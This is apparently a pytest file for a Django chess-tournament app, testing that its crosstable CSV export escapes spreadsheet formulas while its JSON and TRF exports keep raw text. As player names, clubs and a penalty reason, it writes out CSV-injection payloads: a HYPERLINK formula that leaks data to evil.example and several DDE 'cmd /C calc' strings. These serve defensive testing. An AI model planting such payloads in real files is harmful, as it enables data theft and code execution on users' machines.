"""Issue 22, item 7: a name or club that a spreadsheet would run as a formula is written to
the crosstable's CSV as text (OWASP: a single quote before it); result symbols and numbers
stay as they are, and the JSON and TRF carry the raw text."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from tests.tournaments.services.factories import event_make, officials_make, round_make
from tournaments import services
from tournaments.models import Game, Player
from tournaments.selectors import crosstable_get

pytestmark = pytest.mark.django_db

# Each name and club as entered, and as the CSV must carry it.
SHOWN = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': (
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    ),
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    # a spreadsheet splitting on semicolons would start a cell at the "="
    "Smith;=1+1": "Smith;'=1+1",
    "=1+1": "'=1+1",
    "@Klingon Club": "'@Klingon Club",
    "-Minus": "'-Minus",
    "Plain Club": "Plain Club",
    "Qo'noS; +2": "Qo'noS; '+2",
}
NAMES = tuple(list(SHOWN)[:5])
CLUBS = tuple(list(SHOWN)[5:])


@pytest.fixture
def event():
    officials = officials_make()
    t, players = event_make(officials, slug="csv-open", names=NAMES)
    for player, club in zip(players, CLUBS, strict=True):
        player.club = services.club_create(name=club)
        player.save(update_fields=["club"])
    a, b, c, d, e = players
    r1 = round_make(t, [(a, b), (c, d), (e, None)])
    services.game_result_set(game=r1.games.get(board=1), result=Game.Result.DRAW)
    services.game_result_set(game=r1.games.get(board=2), result=Game.Result.SECOND_FORFEIT_WIN)
    r2 = round_make(t, [(b, c), (d, e), (a, None)])
    services.game_result_set(game=r2.games.get(board=1), result=Game.Result.FIRST_WIN)
    services.game_result_set(game=r2.games.get(board=2), result=Game.Result.FIRST_WIN)
    services.penalty_impose(
        tournament=t,
        player=d,
        kind="reduce_points",
        amount="0.5",
        reason="=cmd|' /C calc'!A0",
        game=r2.games.get(board=2),
        user=None,
    )
    return t, players, officials


def test_the_crosstable_csv_writes_names_and_clubs_as_text(event):
    t, players, _ = event
    resp = Client().get(f"/t/{t.slug}/crosstable.csv")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8"))))
    header, body = rows[0], rows[1:]
    club_of = {p.name: p.club.name for p in Player.objects.filter(pk__in=[p.pk for p in players])}
    table = crosstable_get(tournament=t)
    seen = set()
    for line, row, cells in zip(body, table.rows, table.cells, strict=True):
        cell = dict(zip(header, line, strict=True))
        raw = row.entrant.name
        seen.add(raw)
        assert cell["name"] == SHOWN[raw]
        assert cell["club"] == SHOWN[club_of[raw]]
        # the result symbols and the numbers exactly as before
        assert [cell["R1"], cell["R2"]] == [c.text() for c in cells]
        assert cell["score"] == str(row.score)
        assert cell["rating"] == str(row.entrant.rating)
        assert cell["rank"] == str(row.rank)
    assert seen == set(NAMES)
    symbols = {cell for line in body for cell in line[4:6]}
    assert any(s.endswith("=") for s in symbols)  # a draw
    assert any(s.endswith("-") for s in symbols)  # a forfeit lost
    assert any(s.endswith("½*") for s in symbols)  # the points a penalty left
    assert "B" in symbols
    for line in body:
        for text in line[1:3]:
            assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), text


def test_the_json_and_the_trf_carry_the_raw_text(event):
    t, _, officials = event
    data = Client().get(f"/t/{t.slug}/crosstable.json").json()
    assert {r["name"] for r in data["rows"]} == set(NAMES)
    assert {r["club"] for r in data["rows"]} == set(CLUBS)
    api = Client().get(f"/api/tournaments/{t.slug}/crosstable/").json()
    assert set(NAMES) <= {r["name"] for r in api["rows"]}
    arbiter = Client()
    arbiter.force_login(officials.arbiter)
    trf = arbiter.get(f"/arbiter/t/{t.slug}/export.trf").content.decode("utf-8")
    assert "=HYPERLINK(" in trf and "'=HYPERLINK" not in trf
    penalties = arbiter.get(f"/api/tournaments/{t.slug}/penalties/").json()
    assert penalties[0]["reason"] == "=cmd|' /C calc'!A0"
